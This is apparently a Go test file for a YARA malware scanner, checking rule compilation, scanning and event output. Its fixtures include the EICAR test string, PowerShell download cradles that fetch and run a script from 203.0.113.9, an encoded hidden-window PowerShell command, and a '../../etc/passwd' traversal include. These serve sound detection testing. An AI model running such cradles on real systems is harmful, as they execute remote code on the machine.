//go:build cgo

package yara

import (
	"context"
	"errors"
	"io/fs"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"testing/fstest"

	"lachan/internal/event"
	"lachan/rules"
	"lachan/test/shareddata"
)

// sharedData finds the third-party test data (see test/shareddata).
func sharedData(t *testing.T) string { return shareddata.Dir(t) }

func repoRules(t *testing.T) *Rules {
	t.Helper()
	sub, err := fs.Sub(rules.FS, "yara")
	if err != nil {
		t.Fatal(err)
	}
	r, errs := Compile(sub, ".")
	if len(errs) > 0 || r == nil {
		t.Fatalf("the repository's rules do not compile: %v", errs)
	}
	return r
}

// eicarTest is the EICAR anti-virus test string, in two pieces so that
// this source file is not itself taken for the test file.
const eicarTest = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"

// TestEICAR scans the EICAR string written to a temporary eicar.com, so
// it runs wherever cgo does.
func TestEICAR(t *testing.T) {
	eicar := filepath.Join(t.TempDir(), "eicar.com")
	if err := os.WriteFile(eicar, []byte(eicarTest), 0o600); err != nil {
		t.Fatal(err)
	}
	r := repoRules(t)
	if r.Count() < 3 {
		t.Fatalf("Count = %d, want at least 3", r.Count())
	}
	found, err := r.ScanFile(eicar)
	if err != nil {
		t.Fatal(err)
	}
	if len(found) != 1 || found[0].Rule != "EICAR_Test_File" || found[0].Namespace != "eicar.yar" {
		t.Fatalf("findings %+v, want EICAR_Test_File in eicar.yar", found)
	}
	f := found[0]
	if f.Meta["author"] != "Lá Chắn" || f.Size != 68 || f.SHA256 != "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f" {
		t.Fatalf("finding %+v", f)
	}
	ev := f.Event("agent-1")
	if err := ev.Validate(); err != nil {
		t.Fatalf("event: %v", err)
	}
	want := map[string]any{
		"yara.rule": "EICAR_Test_File", "yara.namespace": "eicar.yar", "file.name": "eicar.com",
		"file.extension": "com", "file.size": int64(68), "host.id": "agent-1", "agent.id": "agent-1",
		"event.kind": "event", "file.path": eicar,
	}
	for k, v := range want {
		if got := ev.Fields[k]; got != v {
			t.Errorf("%s = %#v, want %#v", k, got, v)
		}
	}
	if ev.Dataset != event.DatasetYARA || ev.Fields["yara.meta"].(map[string]any)["severity"] != int64(1) {
		t.Errorf("dataset %s meta %v", ev.Dataset, ev.Fields["yara.meta"])
	}
	if !slices.Equal(ev.Strings("event.category"), []string{"malware", "file"}) {
		t.Errorf("event.category %v", ev.Fields["event.category"])
	}
	if again := f.Event("agent-1"); again.ID != ev.ID || f.Event("agent-2").ID == ev.ID {
		t.Error("event IDs are not derived from agent and content")
	}
	if b, err := ev.MarshalJSON(); err != nil {
		t.Fatal(err)
	} else {
		var back event.Event
		if err := back.UnmarshalJSON(b); err != nil {
			t.Fatalf("round trip: %v", err)
		}
	}
}

// TestEICARSharedTarget scans the shared eicar.com, the file other
// scanners are checked against.
func TestEICARSharedTarget(t *testing.T) {
	eicar := filepath.Join(sharedData(t), "yara", "targets", "eicar.com")
	found, err := repoRules(t).ScanFile(eicar)
	if err != nil {
		t.Fatal(err)
	}
	if len(found) != 1 || found[0].Rule != "EICAR_Test_File" || found[0].Namespace != "eicar.yar" {
		t.Fatalf("findings %+v, want EICAR_Test_File in eicar.yar", found)
	}
}

func TestRepoRulesCases(t *testing.T) {
	r := repoRules(t)
	cases := []struct {
		name, content string
		want          []string
	}{
		{"eicar", eicarTest, []string{"EICAR_Test_File"}},
		{"eicar padded", eicarTest + "   \r\n", []string{"EICAR_Test_File"}},
		{"eicar inside a bigger file", "hello " + eicarTest, nil},
		{"cradle", "$c = New-Object Net.WebClient\nIEX $c.DownloadString('http://203.0.113.9/a.ps1')\n", []string{"PowerShell_Download_Cradle"}},
		{"cradle piped", "Invoke-WebRequest -Uri http://203.0.113.9/x | iex\n", []string{"PowerShell_Download_Cradle"}},
		{"download only", "Invoke-WebRequest -Uri https://example.org/report.csv -OutFile report.csv\n", nil},
		{"encoded", "powershell.exe -NoProfile -WindowStyle Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA\n", []string{"PowerShell_Encoded_Command"}},
		{"plain script", "Get-ChildItem C:\\Users | Sort-Object Length\n", nil},
	}
	dir := t.TempDir()
	for _, c := range cases {
		p := filepath.Join(dir, strings.ReplaceAll(c.name, " ", "_")+".txt")
		if err := os.WriteFile(p, []byte(c.content), 0o600); err != nil {
			t.Fatal(err)
		}
		found, err := r.ScanFile(p)
		if err != nil {
			t.Fatal(err)
		}
		var got []string
		for _, f := range found {
			got = append(got, f.Rule)
		}
		if !slices.Equal(got, c.want) {
			t.Errorf("%s: matched %v, want %v", c.name, got, c.want)
		}
	}
}

func TestCompileErrors(t *testing.T) {
	fsys := fstest.MapFS{
		"good.yar":           {Data: []byte("rule good { strings: $a = \"needle\" condition: $a }\n")},
		"bad.yar":            {Data: []byte("rule bad {\n  strings: $a = \"x\"\n  condition: $b\n}\n")},
		"dup/a.yara":         {Data: []byte("rule good { condition: filename == \"needle.txt\" }\n")},
		"inc/main.yar":       {Data: []byte("include \"lib/common.yar\"\nrule main { condition: common }\n")},
		"inc/lib/common.yar": {Data: []byte("include \"deeper.yar\"\nprivate rule common { condition: deeper }\n")},
		"inc/lib/deeper.yar": {Data: []byte("private rule deeper { condition: true }\n")},
		"missing.yar":        {Data: []byte("include \"nowhere.yar\"\nrule m { condition: true }\n")},
		"escape.yar":         {Data: []byte("include \"../../etc/passwd\"\nrule e { condition: true }\n")},
		"notes.txt":          {Data: []byte("not a rule file")},
	}
	r, errs := Compile(fsys, ".")
	if r == nil {
		t.Fatalf("nothing compiled: %v", errs)
	}
	wantErrs := []string{"bad.yar:4: undefined string \"$b\"", "escape.yar", "missing.yar"}
	if len(errs) != len(wantErrs) {
		t.Fatalf("errors %v, want %d", errs, len(wantErrs))
	}
	for i, w := range wantErrs {
		var ce *CompileError
		if !strings.Contains(errs[i].Error(), w) || !errors.As(errs[i], &ce) {
			t.Errorf("error %d = %v, want it to name %q", i, errs[i], w)
		}
	}
	// good twice (two namespaces) and main; private rules are not counted.
	if r.Count() != 3 {
		t.Errorf("Count = %d, want 3", r.Count())
	}
	if _, errs := Compile(fstest.MapFS{"x.txt": {Data: []byte("x")}}, "."); len(errs) != 1 {
		t.Errorf("an empty rule set: %v", errs)
	}
}

func TestScanPaths(t *testing.T) {
	fsys := fstest.MapFS{
		"n.yar":  {Data: []byte("rule needle : demo { meta: n = 1 strings: $a = \"needle\" condition: $a }\n")},
		"fv.yar": {Data: []byte("rule named { condition: filename == \"special.txt\" and extension == \".txt\" and filetype == \"\" and owner != \"\" and filepath != \"\" }\nrule exe { condition: filetype == \"EXE\" }\n")},
	}
	r, errs := Compile(fsys, ".")
	if len(errs) > 0 {
		t.Fatal(errs)
	}
	dir := t.TempDir()
	write := func(name, content string) {
		p := filepath.Join(dir, name)
		os.MkdirAll(filepath.Dir(p), 0o700)
		if err := os.WriteFile(p, []byte(content), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	write("a/needle.bin", "hay needle hay")
	write("a/b/special.txt", "nothing")
	write("big.bin", "needle"+strings.Repeat("x", 2000))
	write("prog.exe", "MZ\x90\x00")
	write("skip/needle.bin", "needle")
	os.Symlink(filepath.Join(dir, "a"), filepath.Join(dir, "link"))

	cases := []struct {
		name    string
		vars    bool
		want    []string
		files   int64
		skipped int64
	}{
		{"file variables", true, []string{"a/b/special.txt:named", "a/needle.bin:needle", "prog.exe:exe"}, 3, 2},
		{"like the yara command", false, []string{"a/needle.bin:needle"}, 3, 2},
	}
	for _, c := range cases {
		cfg := DefaultConfig()
		cfg.MaxFileSize, cfg.FileVariables, cfg.Exclude = 1000, c.vars, []string{filepath.Join(dir, "skip")}
		var got []string
		st, err := r.ScanPaths(context.Background(), []string{dir}, cfg, func(f Finding) {
			rel, _ := filepath.Rel(dir, f.Path)
			got = append(got, filepath.ToSlash(rel)+":"+f.Rule)
			if f.SHA256 == "" || f.Time.IsZero() {
				t.Errorf("finding without hash or time: %+v", f)
			}
		})
		slices.Sort(got)
		if err != nil || !slices.Equal(got, c.want) || st.Files != c.files || st.Skipped != c.skipped {
			t.Errorf("%s: %v %+v, %v; want %v, %d files, %d skipped", c.name, got, st, err, c.want, c.files, c.skipped)
		}
	}

	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	if _, err := r.ScanPaths(ctx, []string{dir}, DefaultConfig(), func(Finding) {}); !errors.Is(err, context.Canceled) {
		t.Errorf("cancelled scan: %v", err)
	}
	if _, err := r.ScanPaths(context.Background(), []string{filepath.Join(dir, "missing")}, DefaultConfig(), func(Finding) {}); err == nil {
		t.Error("a missing path gave no error")
	}
	bad := DefaultConfig()
	bad.FileTimeout = -1
	if _, err := r.ScanPaths(context.Background(), []string{dir}, bad, func(Finding) {}); err == nil {
		t.Error("an invalid config was accepted")
	}
}

func TestConfigValidate(t *testing.T) {
	cases := []struct {
		name string
		mod  func(*Config)
		ok   bool
	}{
		{"default", func(*Config) {}, true},
		{"zero size", func(c *Config) { c.MaxFileSize = 0 }, false},
		{"sub-second timeout", func(c *Config) { c.FileTimeout = 500e6 }, false},
		{"no timeout", func(c *Config) { c.FileTimeout = 0 }, true},
		{"sub-second runaway limit", func(c *Config) { c.RunawayLimit = 500e6 }, false},
		{"runaways not named", func(c *Config) { c.RunawayLimit = 0 }, true},
		{"empty path", func(c *Config) { c.Paths = []string{""} }, false},
	}
	for _, c := range cases {
		cfg := DefaultConfig()
		c.mod(&cfg)
		if err := cfg.Validate(); (err == nil) != c.ok {
			t.Errorf("%s: Validate() = %v", c.name, err)
		}
	}
}

func TestFileType(t *testing.T) {
	cases := []struct{ head, ext, want string }{
		{"MZ\x90\x00", ".dll", "EXE"},
		{"\x7fELF\x02", "", "ELF"},
		{"\xcf\xfa\xed\xfe", "", "MACH-O"},
		{"<?php", ".php", "PHP"},
		{"@echo off", ".bat", "BATCH"},
		{"hello", ".txt", ""},
	}
	for _, c := range cases {
		if got := fileType([]byte(c.head), c.ext); got != c.want {
			t.Errorf("fileType(%q, %q) = %q, want %q", c.head, c.ext, got, c.want)
		}
	}
}
